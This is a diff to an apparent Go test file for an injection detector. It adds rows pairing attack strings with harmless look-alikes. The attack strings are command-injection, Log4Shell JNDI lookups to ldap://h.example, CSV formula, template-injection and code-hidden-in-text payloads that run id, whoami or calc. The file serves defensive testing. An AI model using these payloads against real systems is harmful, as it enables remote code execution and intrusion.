@@ -14,6 +14,20 @@ func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
 func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }
 
 var rows = []languagetest.Row{
+	{Shows: "function in brackets", Attack: "(passthru)('id')", Twin: "(see)('this')"},
+	{Shows: "function put together of pieces", Attack: "(pass.(th).ru)(whoami);", Twin: "(a.(b).c)(d);"},
+	{Shows: "function as a string", Attack: `"sys"."tem"("id")`, Twin: `"the"."end"("of")`},
+	{Shows: "printing what a call of constants returns", Attack: "print(sha1(7));", Twin: "print(sha1(name));"},
+	{Shows: "printing between two strings", Attack: "'.print(md5(7)).'", Twin: "'.print(len(x)).'"},
+	{Shows: "lookup with what nobody can resolve inside", Attack: "${j${${:-q}${:-r}:n}di:ldap://h.example/a}", Twin: "${URL:-ldap://${HOST}/a}"},
+	{Shows: "lookup whose brace is spelt out", Attack: "$&lcub;jndi:ldap://h.example/a}", Twin: "$5 &amp; jndi: {x}"},
+	{Shows: "module of Node and nothing else", Attack: "import('child_process')", Twin: "import('./routes/home.js')"},
+	{Shows: "evaluation in AngularJS", Attack: "$eval('7+7')", Twin: "$evaluation('7')"},
+	{Shows: "render callback of a form as a name", Attack: "mail[#post_render][]", Twin: "mail[post][]", IsName: true},
+	{Shows: "configuration of a running application as a name", Attack: "bootstrapStatusProvider.applicationConfig.setupComplete", Twin: "user.applicationId.value", IsName: true},
+	{Shows: "a socket and another host", Attack: "unix:AAAAAAAA|http://127.0.0.1:8080/", Twin: "unix:/run/app.sock | http"},
+	{Shows: "formula in a later row of a sheet", Attack: "name,sum\nx,=cmd|' /C calc'!A0\n", Twin: "name,sum\nx,'a|b'!\n"},
+	{Shows: "code behind lines of a letter", Attack: "Dear all,\nthe garden is lovely.\nCome and see it soon.\nThe roses bloom now.\n__import__('os').system('id')", Twin: "Dear all,\nthe garden is lovely.\nCome and see it soon.\nThe roses bloom now.\nimport the system"},
 	{Shows: "from an object to all classes", Attack: "[].__class__.__base__.__subclasses__()", Twin: "type(self).__class__.__name__"},
 	{Shows: "a lookup that reaches out", Attack: "${dns:address|x.example.net}", Twin: "${dns:-none}"},
 	{Shows: "a process by its class", Attack: "Process.Start(\"cmd.exe\",\"/c whoami\")", Twin: "server.start(\"/var/run\")"},
